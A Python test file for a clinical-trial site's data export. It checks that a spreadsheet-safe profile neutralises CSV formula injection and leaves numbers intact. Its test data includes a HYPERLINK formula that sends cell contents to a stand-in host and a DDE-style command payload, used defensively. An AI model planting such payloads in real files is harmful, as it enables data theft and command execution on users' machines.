"""A spreadsheet calculates nothing of what people typed; numbers stay numbers; the plain profile is untouched."""

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.access.conftest import Person, signed_in
from tests.access.places import Places
from tests.enrollment.steps import leave
from trialsite.accounts.models import User
from trialsite.lib.spreadsheet import guarded

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "-", "--1"],
)
def test_text_that_looks_like_a_formula_is_guarded(cell: str) -> None:
    assert guarded(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-3.2", "-3", "0", "3.25", "1e-5", "-1E+3", "", "a=b", "01-002", "2026-03-09", "'=1"]
)
def test_numbers_and_other_text_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@pytest.mark.requirement("WEB-04")
@given(st.floats(allow_nan=False, allow_infinity=False))
def test_no_number_is_ever_changed(number: float) -> None:
    assert guarded(repr(number)) == repr(number)


@given(st.text())
def test_a_guarded_cell_never_begins_like_a_formula(cell: str) -> None:
    """Unless it is a number."""
    written = guarded(cell)
    if written.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
        float(written)


def _files(answer: Any) -> dict[str, str]:
    content = b"".join(answer.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name.partition("/")[2]: archive.read(name).decode() for name in archive.namelist()}


@pytest.fixture(scope="module")
def exported(places: Places, people: dict[Person, User]) -> dict[str, dict[str, str]]:
    """Profile → file → text, of a study in which a withdrawal's reason is a formula."""
    by = User.objects.get(username="investigator")
    leave(places.screening, by, FORMULA)
    client = signed_in(people["datamanager", "all"])
    files = {}
    for profile in ("", "plain", "spreadsheet"):
        answer = client.post("/studies/KETNAL/export/", {"reason": "a test", "profile": profile})
        assert answer.status_code == 200
        files[profile] = _files(answer)
    return files


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_plain_profile_is_what_was_typed(exported: dict[str, dict[str, str]]) -> None:
    """Also when no profile is asked for."""
    for profile in ("", "plain"):
        assert FORMULA in _cells(exported[profile]["participants.csv"])
        assert json.loads(exported[profile]["manifest.json"])["profile"] == "plain"
    assert exported[""]["outcomes.csv"] == exported["plain"]["outcomes.csv"]


@pytest.mark.requirement("WEB-04")
def test_the_spreadsheet_profile_guards_text_and_keeps_numbers(exported: dict[str, dict[str, str]]) -> None:
    """The reason has an apostrophe before it; changes from baseline are still negative numbers."""
    files = exported["spreadsheet"]
    cells = _cells(files["participants.csv"])
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    people = list(csv.DictReader(io.StringIO(files["participants.csv"])))
    assert {row["site"] for row in people} <= {"'01", "'02"}, "a site's code stays text"
    assert all(row["age"].isdecimal() for row in people if row["age"])
    changes = [row["change_day_1"] for row in csv.DictReader(io.StringIO(files["outcomes.csv"]))]
    plain = [row["change_day_1"] for row in csv.DictReader(io.StringIO(exported["plain"]["outcomes.csv"]))]
    assert changes == plain
    assert any(change.startswith("-") for change in changes)


def test_the_files_say_which_profile_they_have(exported: dict[str, dict[str, str]]) -> None:
    assert json.loads(exported["spreadsheet"]["manifest.json"])["profile"] == "spreadsheet"
    assert "Profile spreadsheet" in exported["spreadsheet"]["codebook.csv"]
    assert "Profile spreadsheet" not in exported["plain"]["codebook.csv"]
